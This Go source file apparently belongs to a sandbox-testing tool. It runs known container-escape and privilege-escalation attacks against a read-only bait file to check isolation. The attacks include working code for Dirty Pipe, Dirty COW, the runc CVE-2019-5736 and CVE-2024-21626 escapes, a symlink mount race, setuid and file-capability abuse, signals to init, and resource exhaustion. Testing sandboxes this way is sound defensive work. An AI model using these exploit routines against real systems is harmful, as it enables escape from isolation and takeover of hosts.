package hostile

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"assay/internal/image"
	"assay/internal/sandbox"
)

// escapeAttackers are inside of those that have led out of other sandboxes.
func escapeAttackers() tries {
	return tries{
		// Where a program stands that was started in a directory of a descriptor.
		"look around": plain(func() error {
			for _, p := range []string{"../hostdev", "../fproc", "hostdev"} {
				if _, err := os.Lstat(p); err == nil {
					return nil
				}
			}
			b := make([]byte, unix.PathMax)
			n, err := unix.Getcwd(b)
			if err == nil && bytes.HasPrefix(b[:n], []byte("(unreachable)")) {
				return nil
			}
			return fmt.Errorf("in %q, %w", b[:max(n, 0)], err)
		}),
		"wait for a program": plain(waitForProgram),
		"is it there": func(args []string) error {
			b, err := os.ReadFile(args[0])
			if err == nil && string(b) == bait {
				return errors.New("the mount is where it belongs")
			}
			return nil
		},
		"plant a target": plain(func() error { return errors.Join(os.Mkdir("/hostdev", 0o777), os.Symlink("/hostdev", "/target")) }),
		"splice into a read-only file": plain(func() error {
			return changes(func(f *os.File) { dirtyPipe(f) })
		}),
		"write a read-only mapping": plain(func() error { return changes(dirtyMapping) }),
		"capabilities of a file":    plain(fileCapabilities),
		"set-id program":            plain(setIDProgram),
		"take all watchers": plain(func() error {
			for range 200 {
				if _, err := unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
					break
				}
			}
			fmt.Println("ready")
			time.Sleep(time.Minute)
			return errors.New("time is up")
		}),
		"watch a file": plain(func() error {
			fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
			if err == nil {
				_, err = unix.InotifyAddWatch(fd, "/tmp", unix.IN_CREATE)
				unix.Close(fd)
			}
			return err
		}),
		"join the namespaces of init": plain(func() error {
			fd, err := unix.PidfdOpen(1, 0)
			if err == nil {
				err = unix.Setns(fd, unix.CLONE_NEWIPC)
			}
			return err
		}),
		"signals to init by a descriptor": plain(func() error {
			fd, err := unix.PidfdOpen(1, 0)
			if err != nil {
				return err
			}
			for sig := 1; sig <= 64; sig++ {
				_ = unix.PidfdSendSignal(fd, syscall.Signal(sig), nil, 0) // whether it is refused or ignored is the same
			}
			time.Sleep(50 * time.Millisecond)
			return errors.New("all of them sent")
		}),
		"32-bit calls": aside("32-bit call"),
		"x32 calls":    aside("x32 call"),
	}
}

// aside makes an attack that may cost its process the life.
func aside(name string) func([]string) error {
	return plain(func() error {
		out, err := bareCommand(name).Output()
		worked, detail, perr := parse(string(out), "", 0)
		switch {
		case worked:
			return nil
		case perr == nil:
			return errors.New(detail)
		}
		return fmt.Errorf("this kernel knows no such calls: %w", err)
	})
}

// waitForProgram looks for a process that runs the host's program and does to
// the file what only its owner may, and what changes nothing.
func waitForProgram() error {
	fmt.Println("ready")
	last := errors.New("no such process was seen")
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, d := range dirs {
			b, err := os.ReadFile(d + "/cmdline")
			if err != nil || !strings.HasPrefix(string(b), "/proc/self/exe\x00") {
				continue
			}
			f, err := os.Open(d + "/exe")
			if err != nil {
				last = err
				continue
			}
			var st unix.Stat_t
			if err = unix.Fstat(int(f.Fd()), &st); err == nil {
				err = unix.Fchmod(int(f.Fd()), st.Mode&0o7777)
			}
			f.Close()
			if err == nil {
				return nil
			}
			return fmt.Errorf("change the mode of the host's program: %w", err)
		}
	}
	return last
}

// interpreted lets the sandbox's first process run its own program inside
// (CVE-2019-5736), which somebody else there then goes for.
func interpreted(f *field) (bool, string, error) {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	const script = "#!/proc/self/exe\n"
	err := errors.Join(w.WriteHeader(&tar.Header{Name: "script", Mode: 0o755, Size: int64(len(script))}), second(io.WriteString(w, script)), w.Close())
	if err == nil {
		err = f.s.Put(f.ctx, "/x", &b)
	}
	if err != nil {
		return false, "", err
	}
	p, err := f.s.Start(f.ctx, sandbox.Command{Args: []string{marker, "wait for a program"}, Env: attackerEnv()})
	if err != nil {
		return false, "", err
	}
	defer p.Close()
	if _, err := io.ReadFull(p.Stdout(), make([]byte, len("ready\n"))); err != nil {
		return false, "", err
	}
	said := make(chan string, 1)
	go func() {
		b, _ := io.ReadAll(p.Stdout())
		said <- string(b)
	}()
	for {
		q, err := f.s.Start(f.ctx, sandbox.Command{Args: []string{"/x/script"}, Env: attackerEnv()})
		if err != nil {
			return false, err.Error(), nil // nothing of the host's can be run at all
		}
		select {
		case out := <-said:
			q.Close()
			return parse(out, "", 0)
		case <-time.After(200 * time.Millisecond):
			q.Close()
		}
	}
}

func second[T any](_ T, err error) error { return err }

// stray starts programs in directories that descriptors lead to
// (CVE-2024-21626).
func stray(f *field) (bool, string, error) {
	last := "none"
	for n := range 40 {
		cmd := sandbox.Command{Args: []string{marker, "look around"}, Env: attackerEnv(), Dir: image.Path(fmt.Sprint("/proc/self/fd/", n))}
		r, err := sandbox.Exec(f.ctx, f.s, cmd, sandbox.ExecOptions{Timeout: patience})
		if err != nil {
			last = err.Error()
			continue
		}
		worked, detail, err := parse(string(r.Stdout), string(r.Stderr), r.Exit.Code)
		if worked || err != nil {
			return worked, fmt.Sprintf("descriptor %d: %s", n, detail), err
		}
		last = detail
	}
	return false, "the last of 40: " + last, nil
}

// plantedTarget lets the next sandbox mount something where a link lies, which
// must lead there within its tree alone (CVE-2021-30465).
func plantedTarget(f *field) (bool, string, error) {
	if worked, detail, err := f.inside("plant a target"); err != nil || !worked {
		return false, detail, fmt.Errorf("prepare: %s %w", detail, err)
	}
	snap, err := f.s.Snapshot(f.ctx)
	if err != nil {
		return false, "", err
	}
	spec := f.spec
	spec.From = snap
	spec.Mounts = append(spec.Mounts[:len(spec.Mounts):len(spec.Mounts)], sandbox.Mount{Host: image.HostPath(f.dir), Target: "/target", ReadOnly: true})
	next, err := f.b.Create(f.ctx, spec)
	if err != nil {
		return false, err.Error(), nil
	}
	defer next.Close()
	r, err := sandbox.Exec(f.ctx, next, sandbox.Command{Args: []string{marker, "is it there", "/hostdev/secret"}, Env: attackerEnv()}, sandbox.ExecOptions{Timeout: patience})
	if err != nil {
		return false, "", err
	}
	return parse(string(r.Stdout), string(r.Stderr), r.Exit.Code)
}

// changes lets an attack try to change the bait, which is mounted read-only.
func changes(try func(f *os.File)) error {
	f, err := os.Open("/bait/secret")
	if err != nil {
		return err
	}
	defer f.Close()
	try(f)
	if b, err := os.ReadFile("/bait/secret"); err != nil || string(b) != bait {
		return err
	}
	return errors.New("it holds what it held")
}

// dirtyPipe writes into a page of a file that a pipe was given (CVE-2022-0847).
func dirtyPipe(f *os.File) {
	var p [2]int
	if unix.Pipe(p[:]) != nil {
		return
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return
	}
	b := make([]byte, size) // every slot is used once
	_, _ = unix.Write(p[1], b)
	_, _ = io.ReadFull(fileOf(p[0]), b)
	off := int64(1)
	_, _ = unix.Splice(int(f.Fd()), &off, p[1], nil, 1, 0)
	_, _ = unix.Write(p[1], []byte("DIRTY"))
}

// fileOf reads a descriptor without owning it.
type fileOf int

func (f fileOf) Read(b []byte) (int, error) { return unix.Read(int(f), b) }

// dirtyMapping writes to a private mapping while its copy is thrown away
// (CVE-2016-5195).
func dirtyMapping(f *os.File) {
	m, err := unix.Mmap(int(f.Fd()), 0, len(bait), unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return
	}
	defer unix.Munmap(m)
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer mem.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 2000 {
			_ = unix.Madvise(m, unix.MADV_DONTNEED)
		}
	}()
	for range 2000 {
		_, _ = mem.WriteAt([]byte("DIRTY"), int64(ptr(&m[0])))
	}
	<-done
}

// fileCapabilities gives a file a right and runs it without any other.
func fileCapabilities() error {
	const at = "/tmp/capable"
	b, err := os.ReadFile("/bin/grep")
	if err == nil {
		err = os.WriteFile(at, b, 0o755)
	}
	if err != nil {
		return err
	}
	data := []byte{1, 0, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0} // version 2, effective; CHOWN is permitted
	if err := unix.Setxattr(at, "security.capability", data, 0); err != nil {
		return err
	}
	runtime.LockOSThread() // what follows is a thread's, and its children's
	defer runtime.UnlockOSThread()
	if err := unix.Prctl(unix.PR_SET_SECUREBITS, 1, 0, 0, 0); err != nil { // root is nobody special
		return err
	}
	out, err := exec.Command(at, "CapEff", "/proc/self/status").CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s: %w", out, err)
	}
	if strings.Contains(string(out), "0000000000000001") {
		return nil
	}
	return errors.New(strings.Join(strings.Fields(string(out)), " "))
}

// starve uses up what all sandboxes of a user share and looks whether another
// one has still any.
func starve(f *field) (bool, string, error) {
	stop, err := f.begin("take all watchers")
	if err != nil {
		return false, "", err
	}
	defer stop()
	other, err := f.b.Create(f.ctx, f.spec)
	if err != nil {
		return false, "", err
	}
	defer other.Close()
	r, err := sandbox.Exec(f.ctx, other, sandbox.Command{Args: []string{marker, "watch a file"}, Env: attackerEnv()}, sandbox.ExecOptions{Timeout: patience})
	if err != nil {
		return false, "", err
	}
	can, detail, err := parse(string(r.Stdout), string(r.Stderr), r.Exit.Code)
	return !can, "another sandbox: " + detail, err
}

// setID runs a set-id program of root's as somebody else.
func setID(f *field) (bool, string, error) {
	if !f.naked {
		return inside(f)
	}
	out, err := bareCommand(f.a.name).CombinedOutput()
	if err != nil {
		return false, string(out), err
	}
	return parse(string(out), "", 0)
}

func setIDProgram() error {
	const at = "/tmp/raises"
	b, err := os.ReadFile("/bin/grep")
	if err == nil {
		err = errors.Join(os.WriteFile(at, b, 0o755), os.Chmod(at, 0o755|os.ModeSetuid))
	}
	if err != nil {
		return err
	}
	c := exec.Command(at, "^Uid:", "/proc/self/status")
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1000, Gid: 1000}}
	out, err := c.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s: %w", out, err)
	}
	ids := strings.Fields(string(out))
	switch {
	case len(ids) != 5:
		return fmt.Errorf("%q", out)
	case ids[1] == "1000" && ids[2] == "0":
		return nil
	case ids[1] == "0":
		return errors.New("there is one user only")
	}
	return errors.New(strings.Join(ids, " "))
}

// memoryBomb fills memory far beyond the limit.
func memoryBomb(f *field) (bool, string, error) {
	r, err := sandbox.Exec(f.ctx, f.s, sandbox.Command{Args: []string{marker, f.a.name}, Env: attackerEnv()}, sandbox.ExecOptions{Timeout: patience})
	if errors.Is(err, sandbox.ErrOutOfMemory) {
		return false, err.Error(), nil
	}
	if err != nil {
		return false, "", err
	}
	if r.Exit.OutOfMemory {
		return false, "it was ended for its memory", nil
	}
	return parse(string(r.Stdout), string(r.Stderr), r.Exit.Code)
}

// outputFlood writes more than anybody wants to keep.
func outputFlood(f *field) (bool, string, error) {
	o := sandbox.ExecOptions{Timeout: patience, Cap: 1 << 20}
	if f.off&sandbox.DefOutput != 0 {
		o.Cap = 1 << 40
	}
	r, err := sandbox.Exec(f.ctx, f.s, sandbox.Command{Args: []string{marker, f.a.name}, Env: attackerEnv()}, o)
	n := len(r.Stdout) + len(r.Stderr)
	return n > 4<<20, fmt.Sprintf("%d bytes kept, %d dropped", n, r.Dropped), err
}
